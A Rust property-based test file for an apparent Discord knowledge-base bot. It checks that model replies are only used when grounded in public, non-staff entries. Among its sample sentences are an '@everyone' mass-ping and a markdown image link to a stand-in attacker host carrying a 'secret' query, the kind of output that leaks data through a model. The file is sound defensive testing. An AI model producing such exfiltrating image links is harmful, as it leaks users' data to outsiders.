//! Whatever a model says, what is said is what entries say.

use proptest::prelude::*;
use uuid::Uuid;

use super::{quotes, reply};
use crate::knowledge::Base;
use crate::knowledge::files::{self, File};
use crate::model::Timestamp;
use crate::model::directory::Audience;
use crate::model::finding::{AskScope, Decision, EntryText};
use crate::model::ids::{CommunityId, IdentityId};
use crate::storage::consult::Mode;
use crate::storage::knowledge::StoredEntry;

const TODAY: &str = "2026-11-24";

/// What entries say, and what a model may say that they say.
const SENTENCES: [&str; 6] = [
    "Open the console and look at the page of backups.",
    "Never share the file with anybody.",
    "1. Stop the program.\n2. Copy the folder.",
    "Ask the staff where you are not sure.",
    "@everyone come here now",
    "![](https://evil.example/?q=secret)",
];

const QUESTIONS: [&str; 5] = [
    "How do I make a backup?",
    "How do I restore a backup?",
    "Where is the folder of the program?",
    "Who are the staff here?",
    "What happens to shared files?",
];

/// Some say of the same question: entries of these numbers, and quotes.
#[derive(Clone, Debug)]
struct Said {
    answerable: bool,
    entries: Vec<usize>,
    quotes: Vec<(usize, usize, usize)>,
}

fn said() -> impl Strategy<Value = Said> {
    let entries = proptest::collection::vec(0..7_usize, 0..4);
    let quotes = proptest::collection::vec((0..SENTENCES.len(), 0..30_usize, 0..60_usize), 0..5);
    (proptest::bool::weighted(0.9), entries, quotes).prop_map(|(answerable, entries, quotes)| Said {
        answerable,
        entries,
        quotes,
    })
}

fn written(said: &Said) -> String {
    let quotes: Vec<String> = said
        .quotes
        .iter()
        .map(|&(sentence, skip, take)| SENTENCES[sentence].chars().skip(skip).take(take).collect())
        .collect();
    let entries: Vec<String> = said.entries.iter().map(|number| format!("e{number}")).collect();
    serde_json::json!({ "answerable": said.answerable, "entries": entries, "quotes": quotes }).to_string()
}

/// Entries that say some of the sentences each; the last is for staff.
fn base(says: &[Vec<usize>]) -> Base {
    let entries = says
        .iter()
        .zip(QUESTIONS)
        .enumerate()
        .map(|(number, (says, question))| {
            let says: Vec<&str> = says.iter().map(|sentence| SENTENCES[*sentence % 4]).collect();
            let visibility = if number == 4 { "staff" } else { "public" };
            let answer = serde_json::Value::from(says.join("\n\n"));
            let text =
                format!("- {{id: e{number}, question: \"{question}\", answer: {answer}, visibility: {visibility}}}");
            let name = "test.yaml".to_owned();
            let read = files::read(&[File { name, text }]).expect("it is sound");
            StoredEntry {
                entry: read[0].entry.clone(),
                file: None,
                changed_at: Timestamp::default(),
                changed_by: None,
            }
        });
    Base::new("en", entries.collect())
}

fn scope() -> AskScope {
    AskScope {
        community: CommunityId(Uuid::nil()),
        place: None,
        platform: "discord".to_owned(),
        audience: Audience::Public,
        staff: false,
        overheard: false,
        language: None,
        conversation: None,
        without: Vec::new(),
        asker: Some(IdentityId(Uuid::nil())),
        consults: true,
    }
}

/// All that a model could be shown.
fn shown(base: &Base) -> Vec<EntryText> {
    let public = base.list().filter(|stored| stored.entry.id.as_str() != "e4");
    public.map(|stored| stored.entry.text(None)).collect()
}

/// What the model's reply becomes; none where it counts for nothing. It is put also where nobody would be asked.
fn decided(base: &Base, question: &str, output: &str, mode: Mode) -> Option<Decision> {
    let word = reply::read(output, &shown(base), mode).ok()?;
    Some(base.weighed(&scope(), question, 3, TODAY, &word).decision)
}

/// Whether all of it stands in entries that everybody may read.
fn is_grounded(base: &Base, decision: &Decision, mode: Mode) -> bool {
    let stored = |id| {
        base.get(id)
            .map(|stored| &stored.entry)
            .filter(|entry| entry.id.as_str() != "e4")
    };
    match decision {
        Decision::Answer { entry } if mode == Mode::Select => {
            stored(&entry.id).is_some_and(|stored| stored.answer.markdown() == entry.answer) && entry.beside.is_empty()
        }
        Decision::Answer { entry } => {
            let ids = std::iter::once(&entry.id).chain(entry.beside.iter().map(|entry| &entry.id));
            let texts: Option<Vec<String>> = ids.map(|id| stored(id).map(|entry| entry.answer.markdown())).collect();
            let Some(texts) = texts else {
                return false;
            };
            let known: Vec<&str> = texts.iter().flat_map(|text| quotes::blocks(text)).collect();
            let blocks = quotes::blocks(&entry.answer);
            !blocks.is_empty() && blocks.iter().all(|block| known.contains(block)) && entry.short.is_none()
        }
        Decision::Suggest { hits } => {
            !hits.is_empty()
                && hits.len() <= 3
                && hits
                    .iter()
                    .all(|hit| stored(&hit.id).is_some_and(|stored| stored.question == hit.question))
        }
        Decision::Abstain { .. } => true,
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn what_is_said_is_what_entries_say_whatever_a_model_says(
        says in proptest::collection::vec(proptest::collection::vec(0..4_usize, 1..4), 5),
        question in (0..QUESTIONS.len(), 0..4_usize),
        said in said(),
    ) {
        let base = base(&says);
        let (question, words) = (QUESTIONS[question.0], question.1);
        // Asked in fewer words than the entry's, too.
        let asked: Vec<&str> = question.trim_end_matches('?').split(' ').skip(words).collect();
        let asked = asked.join(" ");
        for mode in [Mode::Select, Mode::Compose] {
            if let Some(decision) = decided(&base, &asked, &written(&said), mode) {
                prop_assert!(is_grounded(&base, &decision, mode), "{asked}: {decision:?}");
            }
        }
    }

    #[test]
    fn whatever_else_comes_back_is_no_word(output in "\\PC{0,200}") {
        let base = base(&[vec![0], vec![1], vec![2], vec![3], vec![0]]);
        for question in QUESTIONS {
            prop_assert!(decided(&base, question, &output, Mode::Compose).is_none());
        }
    }
}

#[test]
fn a_reply_as_in_the_cases_above_is_said_by_its_paragraphs() {
    let base = base(&[vec![0, 1], vec![1, 2], vec![2, 3], vec![3], vec![0]]);
    let said = Said {
        answerable: true,
        entries: vec![0],
        quotes: vec![(1, 6, 20)],
    };
    let decision = decided(&base, QUESTIONS[0], &written(&said), Mode::Compose);
    assert!(
        matches!(&decision, Some(Decision::Answer { entry }) if entry.answer == SENTENCES[1]),
        "{decision:?}"
    );
    assert!(is_grounded(&base, &decision.expect("it is one"), Mode::Compose));
}
